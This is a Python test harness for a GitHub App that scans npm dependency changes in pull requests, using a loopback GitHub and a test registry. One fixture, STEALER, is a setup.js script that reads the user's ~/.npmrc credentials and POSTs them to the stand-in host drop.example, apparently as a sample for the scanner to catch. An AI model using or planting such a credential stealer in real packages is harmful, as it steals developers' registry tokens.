"""One pull request from webhook to comment: real rooms, and a GitHub, a registry and a database made for the test.

Deliveries go over HTTP to the real web application, which stores them and asks for work; the test then takes the lanes
and serves them with the real toolbox: PyGithub against our GitHub (judged by GitHub's own description), the registry
client against the loopback registry, and packages opened in sealed children.
"""

from __future__ import annotations

import base64
import hashlib
import json
import threading
from collections.abc import Callable, Iterator, Mapping
from contextlib import ExitStack, contextmanager
from dataclasses import dataclass, replace
from pathlib import Path
from typing import Any

from werkzeug.serving import WSGIRequestHandler, make_server

from app.core.policy import Policy
from app.core.ports import Delivery, Inspector, Store
from app.core.tenancy import Tenant
from app.demo.github import CheckRun, Comment, GitHub, PullRequest, Repository
from app.demo.github.model import LineComment
from app.demo.packages import npm_tarball
from app.demo.registry import RegistryServer
from app.dispatch import MemoryDispatch
from app.github.door import GitHubDoor
from app.settings import Pace, WebSettings, WorkerSettings
from app.store import open_store, upgrade
from app.web import create_app
from tests.fakes.clock import FakeClock
from tests.github.loopback import Loopback, loopback
from worker import bootstrap
from worker.changed_files import Formats
from worker.detectors import register as rules
from worker.inspection.engine import ENGINE
from worker.leaks import Leaks, WatchfulInspector
from worker.lockfiles.register import looks_like_dependency_file, manifest_for, parser_for
from worker.lookup import Tools
from worker.pauses import Pauses
from worker.registries import configured, open_registries
from worker.registries.download import Fetcher, Limits
from worker.toolbox import Toolbox
from worker.webhooks.herald import Herald

SECRET = "a webhook secret of the tests"
STEALER = {
    "scripts/setup.js": (
        "const fs = require('fs')\nconst os = require('os')\nconst https = require('https')\n"
        "const found = fs.readFileSync(os.homedir() + '/.npmrc', 'utf8')\n"
        "const sent = https.request({ host: 'drop.example', method: 'POST' })\nsent.end(found)\n"
    )
}
GREETER = {
    "index.js": "exports.greet = name => 'Hello, ' + name\n"
    + "".join(f"exports.greet{count} = name => exports.greet(name).repeat({count})\n" for count in range(2, 12))
}


def _kept_alone(tools: Tools, tenant: Tenant) -> Tools:
    """All that is learned is the installation's own."""
    return replace(tools, realm_of=lambda _package: tenant.realm)


def _as_they_are(tools: Tools, _tenant: Tenant) -> Tools:
    return tools


@dataclass
class Theatre:
    """Everything a story needs, and the words to tell it in."""

    world: Loopback
    registry: RegistryServer
    store: Store
    dispatch: MemoryDispatch
    inspector: Inspector
    settings: WorkerSettings
    clock: FakeClock
    floor: Policy | None = None
    private: bool = False
    seconds: float = 900.0  # of one run
    progress_seconds: float = 5.0
    told_to_stop: Callable[[], bool] = lambda: False
    pauses: Pauses | None = None
    leaks: Leaks | None = None

    @property
    def github(self) -> GitHub:
        return self.world.github

    # --- setting the scene ---

    def publish(self, name: str, version: str, files: Mapping[str, str] = GREETER, **manifest: Any) -> str:
        """Put a version on the registry; return its SRI hash."""
        tarball = npm_tarball(name, version, files, **manifest)
        self.registry.shelf.put_npm(name, version, tarball)
        return sri(tarball)

    def repository(self, files: Mapping[str, str], **more: Any) -> Repository:
        """Another repository of the organisation, with our App installed."""
        repository = self.github.repository(f"harbour/case-{len(self.github.repositories)}", dict(files), **more)
        assert self.world.installation.repositories is not None
        self.world.installation.repositories.add(repository.id)
        return repository

    # --- the play ---

    def settle(self, times: int = 20) -> None:
        """Deliver what GitHub has to say, and serve every lane until nothing is waiting."""
        for _ in range(times):
            self.github.courier.settle()
            lane = self.dispatch.take()
            if lane is None:
                return
            self.serve(lane)
        raise AssertionError("the story does not come to an end")

    def serve(self, lane: str) -> None:
        """Serve one lane, as a worker's job does."""
        bootstrap.serve_box(
            lane,
            self.toolbox(),
            self.settings,
            self.store,
            self.dispatch,
            self.clock,
            told_to_stop=self.told_to_stop,
            pauses=self.pauses,
        )

    def toolbox(self) -> Toolbox:
        """The real parts, with the test's addresses."""
        endpoints = self.registry.endpoints
        limits = Limits(connect=2.0, idle=2.0, total=5.0, longest_wait=0.0)
        fetcher = Fetcher(configured(endpoints), limits=limits, sleep=lambda _seconds: None)
        return Toolbox(
            door=GitHubDoor(
                self.world.app.id,
                self.world.app.pem,
                self.world.server.base_url,
                write_interval=0.0,
                clock=self.clock,
                sleep=self.world.nap,
            ),
            tools=Tools(
                registries=open_registries(endpoints, fetcher=fetcher),
                inspector=self._inspector(),
                inspections=self.store.inspections,
                change_detectors=rules.CHANGE_DETECTORS,
                release_detectors=rules.RELEASE_DETECTORS,
                file_detectors=rules.FILE_DETECTORS,
                configured=endpoints.configured(),
                engine=ENGINE,
                clock=self.clock,
            ),
            reports=self.store.reports,
            catalogue=bootstrap.catalogue(),
            formats=Formats(parser_for, looks_like_dependency_file, manifest_for),
            read_policy=bootstrap.read_policy,
            marker_key=b"marker",
            floor=self.floor,
            public_url="https://assay.example",
            tell=Herald(self.store, self.dispatch, self.clock, "https://assay.example").tell_review,
            tools_for=_kept_alone if self.private else _as_they_are,
            seconds=self.seconds,
            progress_seconds=self.progress_seconds,
            leaks=self.leaks,
        )

    def _inspector(self) -> Inspector:
        if self.leaks is None:
            return self.inspector
        return WatchfulInspector(self.inspector, self.leaks, lambda _package: "public")

    # --- what came of it ---

    def check(self, pull: PullRequest) -> CheckRun:
        """The one check run of the pull request's head."""
        (run,) = self.checks(pull)
        return run

    def checks(self, pull: PullRequest) -> list[CheckRun]:
        return self.github.checks(pull.repository, pull.head_sha)

    def comments(self, pull: PullRequest) -> list[Comment]:
        return self.github.comments(pull)

    def comment(self, pull: PullRequest) -> str:
        """The text of the one comment."""
        (comment,) = self.comments(pull)
        return comment.body

    def line_comments(self, pull: PullRequest) -> list[LineComment]:
        return self.github.line_comments_of(pull)

    def deliveries(self, pull: PullRequest) -> list[Delivery]:
        """What the store knows of GitHub's deliveries about this pull request, in the order they were sent."""
        found = [self.store.deliveries.get(delivery.guid) for delivery in self.github.deliveries]
        return [row for row in found if row is not None and row.request.number == pull.number]


@contextmanager
def theatre(tmp_path: Path, clock: FakeClock, inspector: Inspector) -> Iterator[Theatre]:
    """Open the house for one story."""
    url = f"sqlite:///{tmp_path / 'assay.db'}"
    upgrade(url)
    with ExitStack() as stack:
        store = open_store(url)
        stack.callback(store.close)
        dispatch = MemoryDispatch(clock)
        web = WebSettings(url, "", (SECRET,), ("127.0.0.1",), production=False)
        address = stack.enter_context(_served(create_app(web, store, dispatch, clock)))
        hook = f"{address}/webhooks/github"
        world = stack.enter_context(loopback(clock, webhook_url=hook, secret=SECRET))
        registry = stack.enter_context(RegistryServer())
        pace = Pace(retries=(0.0, 60.0, 600.0))
        settings = WorkerSettings(url, "", world.app.id, world.app.pem, pace=pace)
        yield Theatre(world, registry, store, dispatch, inspector, settings, clock)


@contextmanager
def _served(app: Any) -> Iterator[str]:
    server = make_server("127.0.0.1", 0, app, threaded=True, request_handler=_Quiet)
    thread = threading.Thread(target=server.serve_forever, kwargs={"poll_interval": 0.02}, daemon=True)
    thread.start()
    try:
        yield f"http://127.0.0.1:{server.server_port}"
    finally:
        server.shutdown()
        thread.join()
        server.server_close()


class _Quiet(WSGIRequestHandler):
    def log(self, *_: Any) -> None:
        """Say nothing: a story's output is its own."""


def sri(content: bytes) -> str:
    return "sha512-" + base64.b64encode(hashlib.sha512(content).digest()).decode()


def npm_files(packages: Mapping[str, tuple[str, str]], **requires: str) -> dict[str, str]:
    """`package.json` and `package-lock.json` of direct dependencies: name → (version, SRI hash).

    A keyword makes a package transitive: `left="kit"` says that `kit` requires `left`.
    """
    direct = {name: version for name, (version, _) in packages.items() if name not in requires}
    entries: dict[str, Any] = {"": {"name": "shop", "dependencies": direct}}
    for name, (version, integrity) in sorted(packages.items()):
        entries[f"node_modules/{name}"] = {"version": version, "integrity": integrity}
    for child, parent in requires.items():
        entries[f"node_modules/{parent}"].setdefault("dependencies", {})[child] = packages[child][0]
    lock = {"name": "shop", "lockfileVersion": 3, "requires": True, "packages": entries}
    return {
        "package.json": json.dumps({"name": "shop", "dependencies": direct}, indent=2) + "\n",
        "package-lock.json": json.dumps(lock, indent=2) + "\n",
    }


def with_lock(files: Mapping[str, str], change: Callable[[dict[str, Any]], None]) -> dict[str, str]:
    """The files with their lockfile's entries changed by hand."""
    lock = json.loads(files["package-lock.json"])
    change(lock["packages"])
    return {**files, "package-lock.json": json.dumps(lock, indent=2) + "\n"}
